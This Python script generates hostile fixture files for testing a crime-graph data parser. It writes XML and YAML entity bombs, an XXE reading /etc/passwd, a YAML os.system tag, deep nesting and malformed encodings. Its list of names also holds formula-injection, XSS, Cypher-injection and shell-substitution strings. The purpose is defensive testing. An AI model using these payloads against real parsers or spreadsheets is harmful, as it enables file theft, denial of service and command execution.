#!/usr/bin/env python3
"""Writes the hostile inputs of Tests/Fixtures/hostile (run from anywhere; deterministic).

Each file's asserted outcome is in expected.json, checked by
Tests/CrimeGraphIOTests/HostileInputTests.swift (library) and Tests/CLITests/HostileCLITests.swift
(the binary). The 100 MB single line is made by the CLI test at run time, not committed.
"""
import os

HERE = os.path.dirname(os.path.abspath(__file__))


def write(name, data):
    with open(os.path.join(HERE, name), 'wb') as f:
        f.write(data if isinstance(data, bytes) else data.encode('utf-8'))


HEADER = 'schema_version: 1\ntitle: hostile\n'

# --- YAML anchors and aliases -------------------------------------------------------------
lol = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
for level in range(1, 10):
    lol.append('a%d: &a%d [%s]' % (level, level, ', '.join(['*a%d' % (level - 1)] * 9)))
write('yaml-billion-laughs.yaml', 'schema_version: 1\n' + '\n'.join(lol) + '\n')
# The same bomb where the case file has a place for it: an entity's aliases.
bomb = [HEADER, 'x0: &x0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]\n']
write('yaml-alias-bomb-in-entity.yaml',
      HEADER + 'entities:\n  - id: a\n    kind: person\n    name: A\n    properties:\n'
      + ''.join('      p%d: &p%d [%s]\n' % (i, i, ', '.join(['*p%d' % (i - 1)] * 10) if i else ', '.join(['lol'] * 10)) for i in range(8)))
# Aliases used honestly, a few times: they read as copies.
write('yaml-aliases-small.yaml', HEADER + 'entities:\n'
      '  - {id: a, kind: person, name: Ann, tags: &t [suspect, witness]}\n'
      '  - {id: b, kind: person, name: Bo, tags: *t}\n')
write('yaml-merge-key.yaml', HEADER + 'entities:\n  - &base {id: a, kind: person, name: Ann}\n  - <<: *base\n    id: b\n')
write('yaml-recursive-alias.yaml', HEADER + 'entities: &e\n  - *e\n')
write('yaml-duplicate-keys.yaml', HEADER + 'entities:\n  - {id: a, kind: person, name: Ann, name: Eve}\n')
write('yaml-duplicate-top-level.yaml', HEADER + 'title: again\n')
write('yaml-binary-tag.yaml', HEADER + 'entities:\n  - {id: a, kind: person, name: !!binary aGVsbG8=}\n')
write('yaml-python-tag.yaml', HEADER + 'entities:\n  - {id: a, kind: person, name: !!python/object/apply:os.system ["id"]}\n')
write('yaml-multiple-documents.yaml', HEADER + '---\nschema_version: 1\n')

# --- deep nesting --------------------------------------------------------------------------
write('deep-nesting.json', '{"schema_version": 1, "title": ' + '[' * 100000 + ']' * 100000 + '}')
write('deep-nesting-flow.yaml', 'schema_version: 1\ntitle: ' + '[' * 100000 + ']' * 100000 + '\n')
write('deep-nesting-530.yaml', 'schema_version: 1\ntitle: ' + '[' * 530 + ']' * 530 + '\n')
write('deep-nesting.graphml', '<?xml version="1.0"?>\n<graphml><graph edgedefault="directed"><node id="a">'
      + '<x>' * 30000 + '</x>' * 30000 + '</node></graph></graphml>\n')
write('deep-subgraphs.dot', 'digraph {' + '{' * 100000 + 'a' + '}' * 100000 + '}\n')
write('deep-nesting.ftm.json', '{"id": "a", "schema": "Person", "properties": {"name": ' + '[' * 100000 + ']' * 100000 + '}}\n')

# --- XML entities --------------------------------------------------------------------------
write('xml-billion-laughs.graphml', '<?xml version="1.0"?>\n<!DOCTYPE graphml [\n <!ENTITY lol "lol">\n'
      + ''.join(' <!ENTITY lol%d "%s">\n' % (i, ('&lol%d;' % (i - 1) if i > 1 else '&lol;') * 10) for i in range(1, 10))
      + ']>\n<graphml><graph edgedefault="directed"><node id="&lol9;"/></graph></graphml>\n')
write('xml-external-entity.graphml', '<?xml version="1.0"?>\n<!DOCTYPE graphml [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
      '<graphml><graph edgedefault="directed"><node id="&xxe;"/></graph></graphml>\n')
write('xml-external-dtd.gexf', '<?xml version="1.0"?>\n<!DOCTYPE gexf SYSTEM "http://example.invalid/evil.dtd">\n'
      '<gexf version="1.3"><graph><nodes><node id="a" label="A"/></nodes></graph></gexf>\n')
write('xml-parameter-entity.gexf', '<?xml version="1.0"?>\n<!DOCTYPE gexf [<!ENTITY % remote SYSTEM "http://example.invalid/x"> %remote;]>\n'
      '<gexf version="1.3"><graph><nodes/></graph></gexf>\n')
write('xml-undeclared-entity.graphml', '<?xml version="1.0"?>\n<graphml><graph edgedefault="directed"><node id="&xxe;"/></graph></graphml>\n')
write('xml-utf16-declared.graphml', '<?xml version="1.0" encoding="UTF-16"?>\n<graphml><graph edgedefault="directed"/></graphml>\n')
write('xml-character-references.graphml', '<?xml version="1.0"?>\n<graphml><key id="n" for="node" attr.name="name" attr.type="string"/>'
      '<graph edgedefault="directed"><node id="a"><data key="n">&#x3C;b&#62; &amp;amp; &#x1F600;</data></node></graph></graphml>\n')
write('xml-invalid-character-reference.graphml', '<?xml version="1.0"?>\n<graphml><graph edgedefault="directed"><node id="&#0;"/></graph></graphml>\n')

# --- NUL bytes and invalid UTF-8 ---------------------------------------------------------------
write('nul-byte.yaml', (HEADER + 'entities:\n  - {id: a, kind: person, name: "A\x00B"}\n').encode())
write('nul-byte.csv', b'source,target\na\x00,b\n')
write('nul-byte.graphml', b'<graphml><graph edgedefault="directed"><node id="a\x00"/></graph></graphml>\n')
write('invalid-utf8.yaml', HEADER.encode() + b'entities:\n  - {id: a, kind: person, name: "caf\xe9"}\n')
write('invalid-utf8-overlong.json', b'{"schema_version": 1, "title": "\xc0\xaf"}')
write('invalid-utf8-surrogate.csv', b'source,target\n\xed\xa0\x80,b\n')
write('invalid-utf8-truncated.dot', b'digraph { a -> "\xe2\x82" }')
write('invalid-utf8.ftm.json', b'{"id": "a", "schema": "Person", "properties": {"name": ["\xff"]}}\n')
write('json-escaped-nul.json', '{"schema_version": 1, "title": "a\\u0000b", "entities": [{"id": "a", "kind": "person", "name": "N\\u0000UL"}]}')
write('json-lone-surrogate.json', '{"schema_version": 1, "title": "\\ud800"}')
write('json-duplicate-keys.json', '{"schema_version": 1, "title": "a", "title": "b"}')

# --- enormous numbers ----------------------------------------------------------------------------
write('huge-weight.yaml', HEADER + 'entities:\n  - {id: a, kind: person, name: A}\n  - {id: b, kind: person, name: B}\n'
      'relationships:\n  - {from: a, to: b, kind: associated_with, weight: 1e400}\n')
write('huge-integer-property.yaml', HEADER + 'entities:\n  - {id: a, kind: person, name: A, properties: {count: 123456789012345678901234567890}}\n')
write('huge-schema-version.json', '{"schema_version": 99999999999999999999999999, "title": "x"}')
write('huge-paragraph.yaml', HEADER + 'sources:\n  - {id: s, title: S, publisher: P}\n'
      'entities:\n  - {id: a, kind: person, name: A, cite: {source: s, paragraph: 99999999999999999999999}}\n')
write('huge-date.yaml', HEADER + 'entities:\n  - {id: a, kind: event, name: A, date: 99999999999-01-01}\n')
write('huge-quantity.json', '{"schema_version": 1, "entities": [{"id": "a", "kind": "event", "name": "A", "properties": '
      '{"fine": {"value": -1e999, "unit": "USD"}}}]}')
write('huge-weight.csv', 'source,target,weight\na,b,1e999\n')
write('huge-matrix-cell.csv', ',a,b\na,0,1e999\nb,1,0\n')
write('huge-int.graphml', '<graphml><key id="c" for="node" attr.name="count" attr.type="int"/><graph edgedefault="directed">'
      '<node id="a"><data key="c">99999999999999999999999</data></node></graph></graphml>\n')
write('huge-weight.gexf', '<gexf version="1.3"><graph defaultedgetype="directed"><nodes><node id="a"/><node id="b"/></nodes>'
      '<edges><edge source="a" target="b" weight="1e999"/></edges></graph></gexf>\n')
write('huge-weight.dot', 'digraph { a -> b [weight=1' + '0' * 400 + '] }\n')
write('deep-nesting.cypher', 'RETURN ' + '(' * 100000 + '1' + ')' * 100000 + '\n')
write('deep-list.cypher', 'RETURN ' + '[' * 100000 + ']' * 100000 + '\n')
write('huge-numbers.cypher', 'RETURN 99999999999999999999999999 AS n\n')

# --- structure: self-loops, parallel edges, duplicates ----------------------------------------------
write('self-loops-parallel.yaml', HEADER + 'entities:\n  - {id: a, kind: person, name: Ann}\n  - {id: b, kind: person, name: Bo}\n'
      'relationships:\n  - {from: a, to: a, kind: associated_with}\n  - {from: a, to: b, kind: communicated_with}\n'
      '  - {from: a, to: b, kind: communicated_with}\n  - {from: a, to: b, kind: communicated_with, date: 2022}\n'
      '  - {from: b, to: a, kind: communicated_with}\n')
write('self-loops-parallel.dot', 'digraph { a -> a; a -> b; a -> b; b -> a; a -> a [kind=knows] }\n')
write('self-loops-parallel.graphml', '<graphml><graph edgedefault="undirected"><node id="a"/><node id="b"/>'
      '<edge source="a" target="a"/><edge source="a" target="b"/><edge source="a" target="b"/><edge source="b" target="a"/></graph></graphml>\n')
write('self-loops-parallel.csv', 'source,target\na,a\na,b\na,b\nb,a\n')
write('self-loop-matrix.csv', ',a,b\na,1,1\nb,1,0\n')
write('duplicate-entity-ids.yaml', HEADER + 'entities:\n  - {id: a, kind: person, name: Ann}\n  - {id: a, kind: person, name: Eve}\n')
write('duplicate-node-ids.graphml', '<graphml><graph edgedefault="directed"><node id="a"/><node id="a"/></graph></graphml>\n')
write('duplicate-attribute.graphml', '<graphml><graph edgedefault="directed"><node id="a" id="b"/></graph></graphml>\n')
write('duplicate-ftm-ids.ftm.json', '{"id": "a", "schema": "Person", "properties": {"name": ["Ann"]}}\n'
      '{"id": "a", "schema": "Person", "properties": {"name": ["Eve"]}}\n')
write('dangling-relationship.yaml', HEADER + 'entities:\n  - {id: a, kind: person, name: Ann}\n'
      'relationships:\n  - {from: a, to: nobody, kind: associated_with}\n')
write('subgraph-product.dot', 'digraph { {' + ' '.join('a%d' % i for i in range(300)) + '} -> {'
      + ' '.join('b%d' % i for i in range(300)) + '} }\n')
write('edge-explosion.dot', 'digraph { ' + ' -> '.join('{' + ' '.join('%s%d' % (c, i) for i in range(1000)) + '}' for c in 'abc') + ' }\n')
write('source-dev-zero.yaml', HEADER + 'sources:\n  - {id: s, title: S, publisher: P, file: /dev/zero}\n'
      'entities:\n  - {id: a, kind: person, name: A, cite: {source: s, paragraph: 1}}\n')
write('many-attributes.graphml', '<graphml><graph edgedefault="directed"><node id="a" '
      + ' '.join('k%d="v"' % i for i in range(20000)) + '/></graph></graphml>\n')
write('many-attributes.dot', 'digraph { a [' + ', '.join('k%d=v' % i for i in range(5000)) + '] }\n')

# --- names that are syntax elsewhere ---------------------------------------------------------------
names = [
    ('dot', 'a" -> "b"; x [label="\\N\\G\\E\\L\\l\\r" shape=<b>box</b>] //'),
    ('html', '<script>alert("x")</script><img src=x onerror=alert(1)> &amp; &lt;'),
    ('formula-equals', '=HYPERLINK("http://example.invalid/?"&A1,"click")'),
    ('formula-plus', "+cmd|' /C calc'!A0"),
    ('formula-minus', '-2+3+cmd|\' /C calc\'!A0'),
    ('formula-at', '@SUM(1+1)*cmd|\' /C calc\'!A0'),
    ('formula-tab', '\t=1+1'),
    ('cypher', "x'}) DETACH DELETE n WITH 1 AS x MATCH (m) SET m.pwned = true //`"),
    ('markdown', '[link](javascript:alert(1)) | cell | **bold** `code` <br>'),
    ('csv', 'a,b\r\n"c",d\n'),
    ('xml', ']]></data><data key="x">&xxe;<!--'),
    ('rtl', 'مجموعة الصقر'),
    ('hebrew', 'שלום עולם'),
    ('rlo', 'Galaxy \u202eWorld\u202c Ltd'),
    ('bidi-isolates', '\u2067abc\u2069 \u2066def\u2069 \u200f'),
    ('combining', 'Z\u0338\u0322\u0353a\u0337l\u0335g\u0336o\u0337 e\u0301\u0301\u0301'),
    ('khmer', 'ហ៊ុន សែន'),
    ('chinese', '金鸿 集团'),
    ('zero-width', 'Ann\u200b\u200c\u200d\ufeff'),
    ('emoji', '👩\u200d👩\u200d👧 🇰🇭'),
    ('controls', 'bell\u0007 escape\u001b[31mred\u001b[0m\u009b2J del\u007f'),
    ('newlines', 'line one\nline two\u2028line three\u2029end'),
    ('backslashes', '\\\\server\\share\\n\\"'),
    ('braces', '{{template}} ${env} $(id) `id`'),
]
lines = [HEADER + 'description: "every name here is data, never syntax"\nentities:']
for slug, name in names:
    escaped = name.replace('\\', '\\\\').replace('"', '\\"').replace('\n', '\\n').replace('\r', '\\r').replace('\t', '\\t')
    escaped = ''.join(c if (ord(c) >= 0x20 and ord(c) != 0x7f and not (0x80 <= ord(c) < 0xa0)) else '\\x%02x' % ord(c) if ord(c) < 0x100 else c for c in escaped)
    lines.append('  - id: %s\n    kind: person\n    name: "%s"\n    aliases: ["%s"]\n    properties: {note: "%s"}' % (slug, escaped, escaped, escaped))
lines.append('relationships:')
for (a, _), (b, _) in zip(names, names[1:]):
    lines.append('  - {from: %s, to: %s, kind: associated_with, properties: {how: "%s"}}' % (a, b, names[0][1].replace('\\', '\\\\').replace('"', '\\"')))
write('metacharacter-names.yaml', '\n'.join(lines) + '\n')
print('wrote', len(os.listdir(HERE)) - 2, 'files')
